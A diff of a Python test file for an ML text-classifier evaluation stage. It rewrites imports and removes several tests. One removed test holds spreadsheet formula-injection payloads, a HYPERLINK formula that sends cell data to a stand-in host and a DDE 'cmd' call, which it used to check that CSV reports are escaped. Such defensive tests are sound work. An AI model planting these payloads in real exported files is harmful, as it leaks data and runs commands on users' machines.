@@ -12,8 +12,8 @@ import pandas as pd
 import pytest
 
 from stages import evaluate
-from stages.config.evaluate import EvaluateParams
-from stages.evaluate import EvaluateError, baseline_proba, build_metrics, worst_errors
+from stages.evaluate import predict_proba  # the one library-like function a script keeps (see its doc)
+from stages.model.evaluation import EvaluateError
 from stages.serving.manifest import ManifestError, write_folder_manifest
 from tests.conftest import REPO, build_splits, run_cmd
 
@@ -145,61 +145,6 @@ def test_model_trained_for_other_labels_is_a_clear_error(setup: dict[str, Path],
         evaluate.main([*argv({**setup, "labels": labels}, outputs(tmp_path))])
 
 
-def test_build_metrics_and_worst_errors_on_a_hand_example() -> None:
-    names = ["a", "b"]
-    y = np.array([0, 0, 1, 1])
-    model = np.array([[0.9, 0.1], [0.2, 0.8], [0.4, 0.6], [0.7, 0.3]])  # right, wrong (.8), right, wrong (.7)
-    base = np.array([[0.6, 0.4], [0.6, 0.4], [0.3, 0.7], [0.2, 0.8]])  # all right
-    m = build_metrics(y, model, base, names, ece_bins=10, examples_per_s=12.5, device="cpu")
-    assert m["model"]["accuracy"] == 0.5 and m["baseline"]["accuracy"] == 1.0
-    assert m["delta"] == pytest.approx({"accuracy": -0.5, "macro_f1": -0.5, "weighted_f1": -0.5})
-    # ECE: bins .9 (right), .8 (wrong), .6 (right), .7 (wrong): (|1-.9| + |0-.8| + |1-.6| + |0-.7|) / 4
-    assert m["model"]["ece"] == pytest.approx((0.1 + 0.8 + 0.4 + 0.7) / 4)
-    assert m["inference"] == {"examples_per_s": 12.5, "device": "cpu"} and m["test_rows"] == 4
-
-    preds = evaluate.predictions_table(["w", "x", "y", "z"], y, model, base, names)
-    assert list(preds["correct"]) == [1, 0, 1, 0] and list(preds["baseline_correct"]) == [1, 1, 1, 1]
-    worst = worst_errors(preds, ["t0", "t1", "t2", "a long text " * 10], n=5, excerpt_chars=20)
-    assert list(worst["id"]) == ["x", "z"]  # mistakes only, most confident first
-    assert worst["prob_true"].tolist() == pytest.approx([0.2, 0.3])
-    assert worst["text"].tolist() == ["t1", "a long text a long t ..."]
-
-
-FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+1", "-cmd|' /C calc'!A0", "\tx"]
-
-
-def test_csv_reports_escape_formula_cells_and_read_back_unchanged(tmp_path: Path) -> None:
-    """Test texts, ids and label names such as `=HYPERLINK(...)` reached the CSV reports as they were:
-    a spreadsheet opening them runs the formula. Every string cell starting with = + - @ tab or CR is
-    now written after a `'`; numbers stay numbers, and `csvsafe.read_csv` gives the values back."""
-    from stages.core.csvsafe import read_csv
-
-    names = ["-1", "+1"]  # label names can look like formulas too
-    ids = [*FORMULAS, "'quoted", "plain"]
-    y = np.array([0, 1, 0, 1, 0, 1, 0])
-    model = np.tile([[0.25, 0.75]], (7, 1))
-    preds = evaluate.predictions_table(ids, y, model, model, names)
-    worst = worst_errors(preds, [*FORMULAS, "'quoted", "plain"], n=10, excerpt_chars=100)
-    for name, df in (("predictions.csv", preds), ("worst_errors.csv", worst)):
-        evaluate.write_csv(tmp_path / name, df)
-        cells = pd.read_csv(tmp_path / name, dtype=str, keep_default_na=False).to_numpy().ravel()
-        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
-        back = read_csv(tmp_path / name, dtype={"id": str, "label": str, "pred": str, "baseline_pred": str})
-        pd.testing.assert_frame_equal(back, df, check_dtype=False, atol=1e-6)
-    raw = (tmp_path / "predictions.csv").read_text()
-    assert ",0.750000," in raw and "\n'@SUM(1+1),'+1,'+1,0.750000,1," in raw
-
-
-def test_baseline_is_fit_on_train_only() -> None:
-    train_text = ["goal match team", "bank shares profit", "goal cup win", "profit market bank"]
-    probs = baseline_proba(
-        train_text, [1, 0, 1, 0], ["team goal", "bank market"], 3, EvaluateParams(baseline_min_df=1)
-    )
-    assert probs.shape == (2, 3)
-    assert list(probs.argmax(axis=1)) == [1, 0]
-    assert np.all(probs[:, 2] == 0.0)  # a class absent from train gets probability 0
-
-
 def test_a_windowed_text_is_scored_by_the_mean_of_its_windows(
     setup: dict[str, Path], tiny_bert: Path, corpus: list[dict]
 ) -> None:
@@ -211,7 +156,7 @@ def test_a_windowed_text_is_scored_by_the_mean_of_its_windows(
     splits, _ = build_splits(tiny_bert, corpus, setup["tmp"] / "windowed", max_length=10, windows=3)
     test = load_from_disk(str(splits))["test"]
     assert all(n == 3 for n in test["n_windows"])
-    probs, speed, _ = evaluate.predict_proba(setup["model"], test, batch_size=5)
+    probs, speed, _ = predict_proba(setup["model"], test, batch_size=5)
     model = AutoModelForSequenceClassification.from_pretrained(setup["model"], trust_remote_code=True).eval()
     with torch.inference_mode():
         for row, windows in enumerate(test["windows"][:4]):
